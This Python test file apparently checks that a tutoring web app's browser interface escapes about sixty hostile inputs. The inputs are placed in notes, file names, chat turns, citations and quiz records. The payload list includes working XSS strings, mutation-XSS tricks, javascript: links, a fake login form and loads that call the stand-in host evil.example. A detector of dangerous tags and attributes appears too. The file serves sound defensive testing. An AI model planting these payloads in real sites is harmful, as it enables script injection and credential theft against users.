"""Sixty hostile texts in a real browser, wherever the page shows what a note, a file's name or a record says."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tutor.turns import (
    Answer,
    Citation,
    DemoOutcome,
    Event,
    Notice,
    QuizGrade,
    QuizItem,
    Sentence,
    ToolCall,
    event_to_json,
)

RUNS = "window.owned=1"
FAR = "http://evil.example"
PARTS = 3
# One a line; ⏎ stands for the end of a line.
PAYLOADS = [
    line.replace("RUNS", RUNS).replace("FAR", FAR).replace("⏎", "\n")
    for line in r"""
<script>RUNS</script>
<SCRIPT SRC=FAR/a.js></SCRIPT>
<scr<script>ipt>RUNS</scr</script>ipt>
"><script>RUNS</script>
</title><script>RUNS</script>
</textarea><script>RUNS</script>
<script type="module">import "FAR/a.js"</script>
<img src=x onerror=RUNS>
<img src="FAR/a.png">
<img/src=`x`onerror=RUNS>
<img srcset="FAR/a.png 2x">
<img src="data:image/svg+xml,<svg onload=RUNS>">
"onmouseover="RUNS" x="
' autofocus onfocus='RUNS' tabindex='0
<svg onload=RUNS>
<svg><script>RUNS</script></svg>
<svg><image href="FAR/a.png"/></svg>
<svg><use href="FAR/a.svg#x"/></svg>
<svg><foreignObject><img src=x onerror=RUNS></foreignObject></svg>
<svg><a href="javascript:RUNS"><text y="20">press</text></a></svg>
<svg><animate onbegin=RUNS attributeName=x dur=1s></svg>
<svg><style>*{background:url(FAR/a.png)}</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=RUNS></style></mglyph></table></mtext></math>
<math href="javascript:RUNS">press</math>
<iframe src="FAR"></iframe>
<iframe srcdoc="<script>parent.owned=1</script>"></iframe>
<object data="FAR/a.swf"></object>
<embed src="FAR/a.swf">
<frameset onload=RUNS>
<body onload=RUNS background="FAR/a.png">
<base href="FAR/">
<meta http-equiv="refresh" content="0;url=FAR">
<link rel="stylesheet" href="FAR/a.css">
<link rel="prefetch" href="FAR/a">
<style>@import "FAR/a.css";</style>
<style>body{display:none}</style>
<form action="FAR"><input name=password><button>Log in</button></form>
<button formaction="javascript:RUNS">press</button>
<input autofocus onfocus=RUNS>
<select autofocus onfocus=RUNS></select>
<details open ontoggle=RUNS><summary>x</summary></details>
<video src="FAR/a.mp4" autoplay onerror=RUNS></video>
<audio src="FAR/a.mp3" autoplay></audio>
<video><source onerror=RUNS></video>
<marquee onstart=RUNS>x</marquee>
<template><script>RUNS</script></template>
<noscript><p title="</noscript><img src=x onerror=RUNS>"></noscript>
<div style="position:fixed;inset:0;z-index:9999;background:url(FAR/a.png)">over</div>
<a href="javascript:RUNS">press</a>
<a href="#" ping="FAR">press</a>
[press](javascript:RUNS)
[press](JaVaScRiPt&colon;RUNS)
[press](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)
![x](FAR/a.png)
![x][far]⏎⏎[far]: FAR/a.png "t"
<FAR/a"onclick="RUNS">
```mermaid⏎graph TD; A["<img src=FAR/a.png onerror=RUNS>"]-->B; click A "javascript:RUNS"⏎```
```html⏎<script>RUNS</script>⏎```</code></pre><script>RUNS</script>
$\href{javascript:RUNS}{x}$ $\includegraphics{FAR/a.png}$ $\htmlData{onclick=RUNS}{x}$
$$\url{javascript:RUNS} \def\x{\x\x}\x$$
<!--><img src=x onerror=RUNS>-->
<![CDATA[><img src=x onerror=RUNS>]]>
&lt;img src=x onerror=RUNS&gt; &#60;script&#62;RUNS&#60;/script&#62;
<img src=x onerror=RUNS
""".strip().split("\n")
]

FOUND = """places => {
  const NEVER = new Set(("script iframe object embed base meta link style frameset audio video source marquee template "
    + "image use form").split(" "));
  const bad = [];
  for (const node of document.querySelectorAll(places)) {
    const name = node.localName;
    if (NEVER.has(name)) bad.push(name);
    if (name === "img" && !node.src.startsWith(location.origin)) bad.push("img " + node.src);
    for (const {name: key, value} of node.attributes)
      if (/^on|^ping$|^srcdoc$|^formaction$/i.test(key) || /^\\s*(javascript|data:text)/i.test(value)
          || (key === "style" && /fixed|url\\(/.test(value))) bad.push(`${name} ${key}=${value}`);
  }
  return bad;
}"""


@pytest.fixture
def hostile_notes(tmp_path: Path) -> Path:
    """A note for each text: it is its title, its words and, as far as a file system allows, its name."""
    folder = tmp_path / "notes"
    folder.mkdir()
    for n, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "∕").replace("\n", " ")[:60]
        words = f"# {payload}\n\nThe **thing {n}** is what a hostile note says. {payload}\n\n{payload}\n"
        (folder / f"{n:02} {name}.md").write_text(words, encoding="utf-8")
    return folder


def _recorded(session: Any, notes: Path) -> None:
    """Conversations, none longer than the page shows, in which every kind of message shows every text."""
    paths = [path.name for path in sorted(notes.iterdir())]
    for part in range(PARTS):
        chat_id = session.new_chat()
        for payload, path in list(zip(PAYLOADS, paths, strict=True))[part::PARTS]:
            session._kept.add_turn(chat_id, "user", payload)
            events = [event_to_json(event) for event in _events(payload, path)]
            session._kept.add_turn(chat_id, "assistant", payload, {"events": events})
        session._kept.add_turn(chat_id, "user", f"The end of part {part}.")
        session.rename_chat(chat_id, f"{PAYLOADS[part]} part {part}")


def _events(payload: str, path: str) -> list[Event]:
    cited = Citation(1, path, (3, 3), payload, payload, (payload,), payload, payload)
    said = Sentence(payload, "quoted", (1,))
    point = {"claim": payload, "status": "hit"}
    return [
        ToolCall("run_demo", {"name": payload}, payload),
        Answer(f"{payload} [1]", False, (cited,), (said,), (payload,), "plain", 1.0, payload, {}, payload),
        QuizItem(payload, payload, (("o1", payload), ("o2", payload)), 1, 1, "choice"),
        QuizGrade(payload, "partial", 0.5, payload, payload, cited, (point,)),
        DemoOutcome({"demo": payload, "images": [payload], "verdict": payload, "observations": [payload]}),
        Notice(payload),
    ]


def test_no_hostile_text_runs_loads_or_covers_anything_wherever_it_is_shown(
    serve_page: Any, page_settings: Any, browse: Callable[..., Any], hostile_notes: Path, tmp_path: Path
) -> None:
    assert len(PAYLOADS) >= 60
    settings = page_settings(tmp_path, notes=(hostile_notes,), index_dir=tmp_path / "index")
    with serve_page(settings) as served:
        _recorded(served.opened, hostile_notes)
        page = browse(served.url)
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        assert page.evaluate(FOUND, "head *")  # it does see scripts and styles where there are some
        for part in range(PARTS):
            page.locator("#chats label", has_text=f"part {part}").click()
            page.locator("#chat .user-row", has_text=f"The end of part {part}.").wait_for()
            shown = len(PAYLOADS[part::PARTS])
            assert page.locator("#chat .user-row").count() == shown + 1
            assert page.locator("#chat details.citation").count() >= shown
            assert page.locator("#chat .user-row").first.inner_text().startswith(PAYLOADS[part])
            page.evaluate("document.querySelectorAll('#chat details').forEach(node => { node.open = true; })")
            assert page.evaluate(FOUND, "#chat .message-wrap *") == []
            page.locator("#chat details.citation summary").last.click()
            page.wait_for_selector("#reader:not(.waiting)")
            assert page.evaluate(FOUND, "#reader *") == []
            page.keyboard.press("Escape")
        page.click("#shelf > button")
        page.wait_for_selector("#contents li")
        assert page.evaluate(FOUND, "#side *") == []
        page.get_by_role("tab", name="Notes").click()
        page.wait_for_selector("#note-found nav a")
        assert page.evaluate(FOUND, "#note-found *") == []
        for n in (2, 20, 40, 60):
            page.locator("#note-found nav a").nth(n).click()
            page.locator("#note-head", has_text=f"{n:02} ").wait_for()
            page.locator("#note", has_text=f"thing {n} ").wait_for()
            assert page.evaluate(FOUND, "#note-pane *") == []
        page.wait_for_timeout(500)
        assert page.evaluate("window.owned") is None and page.title() == "Tutor"
